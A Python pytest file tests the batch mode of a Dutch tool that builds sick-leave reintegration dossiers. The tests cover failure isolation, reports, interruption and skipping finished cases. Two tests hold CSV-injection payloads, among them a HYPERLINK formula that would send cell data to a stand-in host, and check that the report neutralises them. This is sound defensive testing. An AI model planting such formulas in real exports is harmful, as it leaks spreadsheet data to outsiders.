"""`dossier batch`: isolation of bad cases, the report, Ctrl-C and --skip-existing (real LibreOffice)."""

from __future__ import annotations

import copy
import csv
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfReader

from dossier.batch import REPORT_CSV, REPORT_JSON, TMP_PREFIX, run_batch
from dossier.settings import Settings

needs_soffice = [pytest.mark.libreoffice,
                 pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice ontbreekt")]

BASE: dict[str, Any] = {
    "werkgever": {"naam": "Bakkerij & Zn", "loonheffingennummer": "815720596L01"},
    "werknemer": {"naam": "Test Persoon", "bsn": "111222333", "functie": "Bakker"},
    "ziekteperiodes": [{"eerste_ziektedag": "2026-03-02"}],
    "probleemanalyse": {"datum": "2026-04-06", "advies": "Aangepast werk, 4 × 2 uur."},
    "plan_van_aanpak": {"datum": "2026-04-16", "doel_kort": "Aangepast werk.",
                        "activiteiten": [{"wie": "Werknemer", "wat": "Start aangepast werk", "termijn": "2026-04-20"}]},
}


def _cases(n: int, bad: dict[int, dict[str, Any]] | None = None) -> list[dict[str, Any]]:
    out = []
    for i in range(n):
        case = copy.deepcopy(BASE)
        case["dossiernummer"] = f"B-{i:03d}"
        case["werknemer"]["naam"] = f"Werknemer {i}"
        case.update((bad or {}).get(i, {}))
        out.append(case)
    return out


def _write(tmp_path: Path, cases: list[dict[str, Any]]) -> Path:
    p = tmp_path / "casussen.json"
    p.write_text(json.dumps(cases, ensure_ascii=False), encoding="utf-8")
    return p


@pytest.mark.parametrize("jobs", [1, 2])
@pytest.mark.usefixtures("_soffice")
def test_mixed_input_good_cases_built_bad_ones_reported(tmp_path: Path, jobs: int) -> None:
    bad = {1: {"werknemer": {"naam": "X", "bsn": "123456789"}},               # invalid data
           3: {"bijlagen": [{"titel": "PA", "bestand": "ontbreekt.pdf"}]},    # broken attachment
           4: {"bijlagen": [{"titel": "Medisch", "bestand": "casussen.json", "soort": "medisch"}]}}
    inp = _write(tmp_path, _cases(6, bad))
    out = tmp_path / "uit"
    proc = subprocess.run([sys.executable, "-m", "dossier", "batch", str(inp), "--out", str(out),
                           "--jobs", str(jobs), "--today", "2026-11-23"], capture_output=True, text=True)
    assert proc.returncode == 7, proc.stderr
    report = json.loads((out / REPORT_JSON).read_text(encoding="utf-8"))
    status = {r["dossiernummer"]: r for r in report["casussen"]}
    assert {k: v["status"] for k, v in status.items()} == {
        "B-000": "ok", "B-001": "fout", "B-002": "ok", "B-003": "fout", "B-004": "fout", "B-005": "ok"}
    assert "elfproef" in " ".join(status["B-001"]["problemen"])
    assert "ontbreekt.pdf" in " ".join(status["B-003"]["problemen"])
    assert "medisch" in " ".join(status["B-004"]["problemen"])
    for nr in ("B-000", "B-002", "B-005"):
        pdf = out / nr / f"{nr}.pdf"
        assert len(PdfReader(pdf).pages) >= 3
        assert status[nr]["bestanden"] == [f"{nr}/{nr}.pdf", f"{nr}/{nr}.index.json"]
        assert status[nr]["seconden"] > 0
    for nr in ("B-001", "B-003", "B-004"):
        assert not (out / nr).exists()
    assert not list(out.glob(f"{TMP_PREFIX}*"))
    raw = (out / REPORT_JSON).read_text(encoding="utf-8") + (out / REPORT_CSV).read_text(encoding="utf-8-sig")
    assert "111222333" not in raw and "123456789" not in raw  # the BSN never reaches a report
    with (out / REPORT_CSV).open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f, delimiter=";"))
    assert [r["dossiernummer"] for r in rows] and {r["status"] for r in rows} == {"ok", "fout"}
    assert "mislukt" in proc.stderr and "ok: 3" in proc.stderr


def _no_batch_soffice_left(tmpdir: Path, grace: float = 5.0) -> bool:
    """No LibreOffice with a profile under this test's own TMPDIR is still running."""
    deadline = time.monotonic() + grace
    while time.monotonic() < deadline:
        procs = subprocess.run(["pgrep", "-f", f"soffice.*{tmpdir}"], capture_output=True, text=True).stdout
        if not procs.strip():
            return True
        time.sleep(0.2)
    return False


@pytest.fixture
def _soffice() -> None:
    if shutil.which("soffice") is None:
        pytest.skip("LibreOffice ontbreekt")


@pytest.mark.usefixtures("_soffice")
@pytest.mark.libreoffice
def test_interrupt_leaves_nothing_half_written_and_skip_existing_finishes(tmp_path: Path) -> None:
    inp = _write(tmp_path, _cases(12))
    out = tmp_path / "uit"
    cmd = [sys.executable, "-m", "dossier", "batch", str(inp), "--out", str(out), "--jobs", "1",
           "--today", "2026-11-23", "--soort", "dossier"]
    tmpdir = tmp_path / "tmp"  # LibreOffice profiles go here: only this batch's processes match it
    tmpdir.mkdir()
    env = {**os.environ, "TMPDIR": str(tmpdir)}
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline:  # wait until some, but not all, cases are done
        done = [p for p in out.glob("B-*") if p.is_dir()] if out.exists() else []
        if len(done) >= 2:
            break
        time.sleep(0.05)
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 130, err
    assert not list(out.glob(f"{TMP_PREFIX}*"))
    finished = sorted(p.name for p in out.glob("B-*"))
    assert 2 <= len(finished) < 12
    for nr in finished:  # every folder that exists is complete
        assert len(PdfReader(out / nr / f"{nr}.pdf").pages) >= 3
        assert (out / nr / f"{nr}.index.json").is_file()
    report = json.loads((out / REPORT_JSON).read_text(encoding="utf-8"))
    assert report["afgebroken"] is True
    not_done = [r for r in report["casussen"] if r["problemen"] == ["niet uitgevoerd: batch afgebroken"]]
    assert len(not_done) == 12 - len(finished)
    assert sorted(r["dossiernummer"] for r in report["casussen"] if r["status"] == "ok") == finished
    assert _no_batch_soffice_left(tmpdir), "the interrupted batch left a LibreOffice process behind"

    proc2 = subprocess.run([*cmd, "--skip-existing"], capture_output=True, text=True, timeout=180)
    assert proc2.returncode == 0, proc2.stderr
    report = json.loads((out / REPORT_JSON).read_text(encoding="utf-8"))
    by_status = {s: sorted(r["dossiernummer"] for r in report["casussen"] if r["status"] == s)
                 for s in ("ok", "overgeslagen")}
    assert by_status["overgeslagen"] == finished
    assert len(by_status["ok"]) == 12 - len(finished)
    assert sorted(p.name for p in out.glob("B-*")) == [f"B-{i:03d}" for i in range(12)]


def test_batch_with_the_fake_converter_renders_documents(tmp_path: Path) -> None:
    """Fast path (no LibreOffice): --soort plan_van_aanpak writes DOCX + PDF per case; progress is reported."""
    inp = _write(tmp_path, _cases(3))
    seen = []
    report = run_batch([inp], tmp_path / "uit", soort="plan_van_aanpak", jobs=1,
                       settings=Settings(converter="fake"), today=date(2026, 11, 23), progress=seen.append)
    assert [r.status for r in report.results] == ["ok", "ok", "ok"]
    assert {p.suffix for p in (tmp_path / "uit" / "B-000").iterdir()} == {".docx", ".pdf"}
    assert seen[0].done == 0 and seen[-1].done == seen[-1].total == 3
    assert "ok: 3" in report.summary()


def test_a_json_list_broken_halfway_builds_the_cases_before_and_reports_the_file(tmp_path: Path) -> None:
    """A JSON export is streamed: a syntax error halfway does not lose the good cases before it."""
    good = [json.dumps(c, ensure_ascii=False) for c in _cases(3)]
    inp = tmp_path / "export.json"
    inp.write_text("[\n" + ",\n".join(good[:2]) + ',\n{"dossiernummer": "B-9" kapot},\n' + good[2] + "\n]",
                   encoding="utf-8")
    report = run_batch([inp], tmp_path / "uit", soort="plan_van_aanpak", jobs=1,
                       settings=Settings(converter="fake"), today=date(2026, 11, 23))
    rows = {r.dossiernummer: r for r in report.results}
    assert rows["B-000"].status == rows["B-001"].status == "ok"
    assert (tmp_path / "uit" / "B-001").is_dir()
    assert rows["export.json"].status == "fout"
    assert "ongeldige JSON op regel 4" in rows["export.json"].problemen[0]
    assert "B-002" not in rows  # after a syntax error the rest of the file cannot be read
    assert report.failed == 1


def test_report_csv_neutralises_cells_that_a_spreadsheet_would_run_as_a_formula(tmp_path: Path) -> None:
    """CSV injection: a cell starting with = + - @ tab or CR gets a single quote before it (OWASP)."""
    from dossier.batch import BatchReport, CaseResult, write_report

    hostile = ['=HYPERLINK("http://x.test/?"&A1;"klik")', "+SUM(1)", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    report = BatchReport(results=[CaseResult(h, "fout", problemen=[h + " is fout"]) for h in hostile]
                         + [CaseResult("V-1", "ok", bestanden=["V-1/a.pdf"], problemen=["gewone tekst; =1"])])
    _js, cs = write_report(report, tmp_path)
    with cs.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, delimiter=";"))
    shown = ["'" + h for h in hostile[:5]] + ["\\x0d=1"]  # a carriage return is escaped: no formula either
    assert [r[0] for r in rows[1:]] == [*shown, "V-1"]
    assert [r[3] for r in rows[1:]] == [s + " is fout" for s in shown] + ["gewone tekst; =1"]
    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row if cell)
    assert json.loads((tmp_path / REPORT_JSON).read_text(encoding="utf-8"))["casussen"][0]["dossiernummer"] \
        == hostile[0]  # JSON is data, not a spreadsheet: kept as it was


def test_a_batch_with_formula_dossiernummers_writes_a_safe_report(tmp_path: Path) -> None:
    inp = tmp_path / "export.csv"
    inp.write_text("dossiernummer;werkgever.naam;werknemer.naam;eerste_ziektedag\r\n"
                   '"=HYPERLINK(""http://x.test/"")";W;A;02-03-2026\r\n@SUM(1);W;B;02-03-2026\r\n'
                   "OK-1;W;C;02-03-2026\r\n", encoding="utf-8")
    report = run_batch([inp], tmp_path / "uit", soort="plan_van_aanpak", jobs=1,
                       settings=Settings(converter="fake"), today=date(2026, 11, 23))
    assert [r.status for r in report.results] == ["fout", "fout", "ok"]
    with (tmp_path / "uit" / REPORT_CSV).open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, delimiter=";"))
    assert [r[0] for r in rows[1:]] == ["'=HYPERLINK(\"http://x.test/\")", "'@SUM(1)", "OK-1"]


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_batch_on_an_empty_folder_is_a_dutch_error_with_exit_1(tmp_path: Path, jobs: str) -> None:
    """With --jobs 1 the input is read in a thread: its error used to be a traceback with exit 0."""
    (tmp_path / "leeg").mkdir()
    r = subprocess.run([sys.executable, "-m", "dossier", "batch", str(tmp_path / "leeg"), "--out",
                        str(tmp_path / "uit"), "--jobs", jobs], capture_output=True, text=True, timeout=120)
    assert r.returncode == 1, r.stderr
    assert r.stderr.strip() == "Fout: geen casusbestanden gevonden (verwacht .json, .csv of .xlsx)"


def test_an_input_error_in_the_reading_thread_reaches_the_caller(tmp_path: Path) -> None:
    from dossier.errors import UsageError

    (tmp_path / "leeg").mkdir()
    with pytest.raises(UsageError, match="geen casusbestanden gevonden"):
        run_batch([tmp_path / "leeg"], tmp_path / "uit", soort="plan_van_aanpak", jobs=1,
                  settings=Settings(converter="fake"), today=date(2026, 11, 23))
